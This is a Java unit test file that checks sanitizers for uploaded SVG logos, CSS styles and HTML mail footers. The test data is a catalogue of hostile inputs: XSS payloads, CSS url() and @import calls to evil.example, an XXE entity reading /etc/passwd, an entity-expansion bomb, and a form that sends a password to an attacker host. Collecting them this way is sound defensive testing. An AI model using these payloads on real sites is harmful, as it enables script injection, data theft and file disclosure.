package com.innodus.themes.safe;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Locale;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What attackers upload as a logo, a style or a mail footer. */
class HostileUploadsTest {
    private static final Pattern RUNS_OR_LOADS = Pattern.compile(
            "<script|javascript:|vbscript:|on[a-z]+\\s*=|<foreignobject|<iframe|<object|<embed|<form|<link|<meta|<base"
                    + "|https?://(?!www\\.w3\\.org)|//evil|@import|expression\\(|-moz-binding|behavior:|<!entity|<!doctype"
                    + "|<animate|<set |<use[^>]+href=\"[^#]",
            Pattern.CASE_INSENSITIVE);

    private static String svg(String inside) {
        return "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">" + inside
                + "</svg>";
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>fetch('//evil.example')</script>",
                "<g onload=\"alert(1)\"/>",
                "<a href=\"javascript:alert(1)\"><text>x</text></a>",
                "<a xlink:href=\"JaVa\tScRiPt:alert(1)\"><rect/></a>",
                "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"alert(1)\"/></foreignObject>",
                "<image href=\"https://evil.example/x.png\"/>",
                "<image href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\"/>",
                "<use href=\"https://evil.example/x.svg#a\"/>",
                "<use xlink:href=\"data:image/svg+xml;base64,PHN2Zy8+#a\"/>",
                "<set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
                "<animate attributeName=\"href\" values=\"javascript:alert(1)\"/>",
                "<style>@import url(//evil.example/x.css); rect{fill:url(https://evil.example/x)}</style>",
                "<style><![CDATA[*{background:url(//evil.example)}</style><script>alert(1)</script>]]></style>",
                "<rect style=\"fill:url(https://evil.example/x)\"/>",
                "<rect fill=\"url(https://evil.example/x#a)\"/>",
                "<handler xmlns=\"http://www.w3.org/2001/xml-events\">alert(1)</handler>",
                "<x:script xmlns:x=\"http://www.w3.org/2000/svg\">alert(1)</x:script>",
                "<!-- --><?xml-stylesheet href=\"https://evil.example/x.css\"?><rect/>",
            })
    void nothingInADrawingRunsOrLoads(String inside) {
        String clean = new String(SafeSvg.clean(svg(inside).getBytes(UTF_8)), UTF_8);
        assertThat(clean).doesNotContainPattern(RUNS_OR_LOADS).startsWith("<svg");
    }

    @Test
    void anotherEncodingHidesNothing() {
        byte[] file = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
                        + svg("<script>alert(1)</script><circle r=\"3\"/>"))
                .getBytes(UTF_16);
        assertThat(new String(SafeSvg.clean(file), UTF_8))
                .doesNotContainPattern(RUNS_OR_LOADS)
                .contains("<circle");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>",
                "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\">]><svg><text>&b;</text></svg>",
                "<html><body onload=\"alert(1)\"/></html>",
                "<svg><g></svg>",
                "GIF89a",
                "",
            })
    void whatIsNoSoundDrawingIsRefused(String file) {
        assertThatThrownBy(() -> SafeSvg.clean(file.getBytes(UTF_8))).isInstanceOf(UnsafeUpload.class);
    }

    @Test
    void aDrawingThatWouldTakeAgesToPaintIsRefused() {
        StringBuilder bomb = new StringBuilder("<g id=\"a0\"><rect width=\"1\" height=\"1\"/></g>");
        for (int i = 1; i < 20; i++) {
            bomb.append("<g id=\"a").append(i).append("\">");
            bomb.append(("<use href=\"#a" + (i - 1) + "\"/>").repeat(10)).append("</g>");
        }
        String deep = "<g>".repeat(100_000) + "</g>".repeat(100_000);
        assertThatThrownBy(() -> SafeSvg.clean(svg(bomb.toString()).getBytes(UTF_8)))
                .isInstanceOf(UnsafeUpload.class);
        assertThatThrownBy(() -> SafeSvg.clean(svg(deep).getBytes(UTF_8))).isInstanceOf(UnsafeUpload.class);
        assertThatThrownBy(() -> SafeSvg.clean(new byte[SafeSvg.MAX_BYTES + 1])).isInstanceOf(UnsafeUpload.class);
    }

    @Test
    void anHonestDrawingKeepsItsLook() {
        String clean = new String(
                SafeSvg.clean(
                        svg("<defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#f00\"/></linearGradient>"
                                        + "</defs><rect width=\"10\" height=\"10\" fill=\"url(#g)\"/><text x=\"1\">Ágora</text>")
                                .getBytes(UTF_8)),
                UTF_8);
        assertThat(clean).contains("linearGradient", "url(#g)", "stop-color=\"#f00\"", "Ágora");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "@import url(https://evil.example/x.css);",
                "@import '//evil.example/x.css';",
                "a{background:url(https://evil.example/x)}",
                "a{background:u\\72l(https://evil.example/x)}",
                "a{background:URL( 'https://evil.example/x' )}",
                "a{background-image:image-set('https://evil.example/x' 1x)}",
                "@font-face{font-family:x;src:url(https://evil.example/x.woff)}",
                "input[value^=a]{background:url(//evil.example/a)}",
                "a{width:expression(alert(1))}",
                "a{behavior:url(x.htc)}",
                "a{-moz-binding:url(//evil.example/x.xml#y)}",
                "a{background:url(javascript:alert(1))}",
                "a{background:url(data:image/svg+xml;base64,PHN2Zy8+)}",
                "a{--x:url(https://evil.example/x);background:var(--x)}",
                "a{color:red}</style><script>alert(1)</script>",
                "<!--a{color:red}--><script>alert(1)</script>",
                "a{background:url(/files/1/x.png)}",
                "a{background:url(/brand/../files/1/x.png)}",
                "/* */a{background:url(//evil.example/x",
                "a{color:red;}}}@import 'https://evil.example/x';",
            })
    void nothingInAStyleRunsOrLoadsFromElsewhere(String css) {
        SafeCss.Result result = SafeCss.clean(css, "");
        assertThat(result.css()).doesNotContainPattern(RUNS_OR_LOADS).doesNotContain("/files/", "</", "data:image/svg");
        assertThat(result.refusals())
                .isNotEmpty()
                .allSatisfy(refusal -> assertThat(refusal.messageKey()).startsWith("brand.css."));
    }

    @Test
    void aStyleIsHeldInsideItsScope() {
        String css = SafeCss.clean("body, .x { color: red } @media print { :root h1 { margin: 0 } }", "#page")
                .css();
        assertThat(css).contains("#page", ".x").doesNotContain("body");
        assertThat(css.lines().filter(line -> line.contains("{") && !line.contains("@")))
                .allSatisfy(line -> assertThat(line).contains("#page"));
    }

    @Test
    void anHonestStyleStaysAsItIs() {
        String css = SafeCss.clean(
                        ".card { border-radius: 8px; background: url(/brand/ab12.png) } a:hover { color: #123456 }", "")
                .css();
        assertThat(css).contains("border-radius: 8px", "/brand/ab12.png", "a:hover", "#123456");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>Hola",
                "<img src=x onerror=alert(1)>Hola",
                "<a href=\"javascript:alert(1)\">Hola</a>",
                "<a href=\" java\nscript:alert(1)\">Hola</a>",
                "<p style=\"background:url(//evil.example)\">Hola</p>",
                "<svg><script>alert(1)</script></svg>Hola",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>Hola",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>Hola",
                "<form action=//evil.example><input name=password></form>Hola",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>Hola",
                "<template><img src=x onerror=alert(1)></template>Hola",
                "<base href=//evil.example>Hola",
                "<img src=\"https://evil.example/pixel.gif\">Hola",
            })
    void nothingInAFooterRunsOrLoadsAndItsWordsStay(String html) {
        String clean = SafeHtml.clean(html);
        assertThat(clean.toLowerCase(Locale.ROOT)).doesNotContainPattern(RUNS_OR_LOADS);
        assertThat(clean).contains("Hola");
        assertThat(SafeHtml.clean(clean)).isEqualTo(clean);
    }

    @Test
    void anHonestFooterKeepsLinksTablesAndColours() {
        assertThat(
                        SafeHtml.clean(
                                "<table><tr><td style=\"color: #333333\"><b>Ágora</b> <a href=\"https://agora.example\">web</a>"))
                .contains("<b>Ágora</b>", "https://agora.example", "rel=\"noopener nofollow\"", "color: #333333");
    }
}
